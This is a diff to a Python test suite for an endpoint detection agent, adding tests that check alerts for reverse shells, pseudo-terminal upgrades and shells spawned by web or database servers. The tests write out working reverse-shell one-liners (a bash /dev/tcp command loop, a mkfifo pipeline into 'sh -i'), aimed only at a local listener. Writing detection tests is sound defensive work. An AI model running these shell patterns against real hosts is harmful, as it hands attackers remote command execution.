@@ -16,6 +16,7 @@ import time
 from vigiltest import ROOT, Agent, check, marker
 
 PY = "/usr/bin/python3"
+RULES = os.environ.get("VIGIL_RULES", os.path.join(ROOT, "rules"))  # a dir or file
 agent = None
 base = None
 listener = None
@@ -43,7 +44,7 @@ class Listener:
     @staticmethod
     def _talk(conn):
         try:
-            conn.sendall(b"echo pwned\nexit\n")
+            conn.sendall(b"id\nexit\n")
             time.sleep(1.0)
         except OSError:
             pass
@@ -55,7 +56,7 @@ def setup_module():
     base = os.path.realpath(tempfile.mkdtemp(prefix=marker() + "-"))
     os.chmod(base, 0o755)
     listener = Listener()
-    agent = Agent("--rules", os.path.join(ROOT, "rules"), profile="sandbox").start()
+    agent = Agent("--rules", RULES, profile="sandbox").start()
 
 
 def teardown_module():
@@ -152,6 +153,36 @@ def test_renamed_shell_with_network_stdio():
     expect_none("Reverse shell", pid=pid)
 
 
+def test_reverse_shell_loop_over_dev_tcp():
+    # bash reads commands from a /dev/tcp fd in a loop: no shell gets the socket at exec,
+    # the command line and the commands it runs (id, stdout on the socket) give it away
+    loop = "exec 5<>/dev/tcp/127.0.0.1/%d; while read -r c <&5; do $c >&5 2>&5; done" % listener.port
+    pid = run(["bash", "-c", loop])
+    a = expect("Reverse shell command line", pid=pid)
+    check(trigger(a)["proc"]["pid"] == pid and "/dev/tcp/127.0.0.1/%d" % listener.port in a["output"], a["output"])
+    ev = trigger(expect("Network socket as program stdio", pid=pid))
+    check(ev["proc"]["comm"] == "id" and ev["stdout"]["rport"] == listener.port, ev)
+
+
+def test_fifo_pipeline_interactive_shell():
+    fifo = os.path.join(base, marker())
+    os.mkfifo(fifo)
+    # the nc of the classic one-liner is played by python: the shell's side is the same
+    relay = "%s -c 'import socket,sys; s=socket.create_connection((\"127.0.0.1\", %d)); " \
+            "open(sys.argv[1], \"wb\").write(s.recv(64))' %s" % (PY, listener.port, fifo)
+    pid = run(["sh", "-c", "cat %s | /bin/sh -i 2>&1 | %s" % (fifo, relay)])
+    ev = trigger(expect("Interactive shell without a terminal", pid=pid))
+    check(ev["stdin"]["type"] == "pipe" and ev["proc"]["tty"] == "", ev)
+
+
+def test_non_interactive_and_mentioning_shells_are_not_alerted():
+    pid = run(["bash", "-ic", "true"], stdin=subprocess.DEVNULL)
+    pid2 = run(["sh", "-c", "echo /dev/tcp is a bash feature; echo x | cat"])
+    for p in (pid, pid2):
+        expect_none("Interactive shell without a terminal", pid=p)
+        expect_none("Reverse shell command line", pid=p)
+
+
 def test_shell_on_unix_socket_is_not_a_reverse_shell():
     # a shell whose stdio is a local (AF_UNIX) socketpair: IPC, not a network peer
     code = ("import socket, os\na, b = socket.socketpair()\nb.sendall(b'exit\\n')\n"
@@ -159,6 +190,44 @@ def test_shell_on_unix_socket_is_not_a_reverse_shell():
     pid = run([PY, "-c", code])
     expect_none("Reverse shell", pid=pid)
     expect_none("Network socket as program stdio", pid=pid)
+
+
+def test_shell_upgraded_to_pty_by_python():
+    # pty.fork: the child gets a new session with the pty as its terminal, runs sh -i
+    code = ("import os, pty\npid, fd = pty.fork()\nif pid == 0:\n    os.execv('/bin/sh', ['sh', '-i'])\n"
+            "os.write(fd, b'exit\\n')\nos.waitpid(pid, 0)\n")
+    p = subprocess.Popen([PY, "-c", code], stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL,
+                         start_new_session=True)  # no controlling terminal of its own
+    p.wait(timeout=20)
+    a = expect("Shell upgraded to a pseudo-terminal", pid=p.pid)
+    ev = trigger(a)
+    check(ev["proc"]["ppid"] == p.pid and ev["proc"]["tty"].startswith("pts/"), ev["proc"])
+    check(ev["stdin"]["type"] == "tty", ev["stdin"])
+
+
+def script_run(command):
+    """script(1) with no terminal of its own runs command on a new pty; returns its pid."""
+    p = subprocess.Popen(["script", "-qc", command, "/dev/null"], stdin=subprocess.PIPE,
+                         stdout=subprocess.DEVNULL, start_new_session=True, env=dict(os.environ, SHELL="/bin/sh"))
+    p.communicate(b"exit\n", timeout=20)
+    return p.pid
+
+
+def test_shell_upgraded_to_pty_by_script():
+    pid = script_run("/bin/sh")
+    ev = trigger(expect("Shell upgraded to a pseudo-terminal", pid=pid))
+    check(ev["proc"]["ppid"] == pid and ev["exec"]["argv"][1:] == ["-c", "/bin/sh"], ev)
+
+
+def test_script_running_a_command_is_not_an_upgrade():
+    pid = script_run("echo %s" % marker())  # CI jobs use script to give a command a tty
+    expect_none("Shell upgraded to a pseudo-terminal", pid=pid)
+
+
+def test_shell_without_terminal_from_interpreter_is_not_alerted():
+    pid = run([PY, "-c", "import subprocess\nsubprocess.run(['/bin/sh', '-c', 'true'])\n"],
+              stdin=subprocess.DEVNULL, start_new_session=True)
+    expect_none("Shell upgraded to a pseudo-terminal", pid=pid)
 
 
 # ---- shells below servers ------------------------------------------------------------
@@ -190,6 +259,14 @@ def test_shell_spawned_by_php_fpm_through_interpreter():
     check(ev["proc"]["ancestors"][1]["pid"] == pid, ev["proc"]["ancestors"][:2])
 
 
+def test_web_app_sending_mail_is_not_web_shell():
+    pid = spawn_shell_from("php-fpm8.2", "/usr/sbin/sendmail -t -i -f %s@localhost" % marker())
+    expect_none("Shell spawned by web server", pid=pid)
+    # a command chained after sendmail is not mail any more
+    pid = spawn_shell_from("php-fpm8.2", "/usr/sbin/sendmail -t -i; echo %s" % marker())
+    expect("Shell spawned by web server", pid=pid)
+
+
 def test_shell_spawned_by_ordinary_program_is_not_web_shell():
     pid = spawn_shell_from("report-worker", "echo %s" % marker())
     expect_none("Shell spawned by web server", pid=pid)
@@ -205,9 +282,13 @@ def test_shell_spawned_by_database_server():
 
 
 def test_postgres_archive_command_is_not_db_shell():
-    pid = spawn_shell_from("postgres", "test ! -f /nonexistent/%s && cp pg_wal/000000010000000000000001 /dev/null || true"
-                           % marker())
+    wal = "000000010000000000000001"
+    archive = "test ! -f /nonexistent/%s/%s && cp pg_wal/%s /nonexistent/" % (marker(), wal, wal)
+    pid = spawn_shell_from("postgres", archive)
     expect_none("Shell spawned by database server", pid=pid)
+    # anything chained after the copy is not archiving any more
+    pid = spawn_shell_from("postgres", archive + "; echo %s" % marker())
+    expect("Shell spawned by database server", pid=pid)
 
 
 # ---- interpreter one-liners ----------------------------------------------------------
@@ -221,7 +302,7 @@ def test_python_one_liner_with_socket():
 
 
 def test_perl_and_node_one_liners_with_exec():
-    for cmd in (["perl", "-e", "system('true'); # %s" % marker()],
+    for cmd in (["perl", "-le", "system('true'); # %s" % marker()],  # flags bundled: -l -e
                 ["node", "-e", "require('child_process').execSync('true') // %s" % marker()]):
         pid = run(cmd)
         expect("Interpreter one-liner with network or exec code", pid=pid)
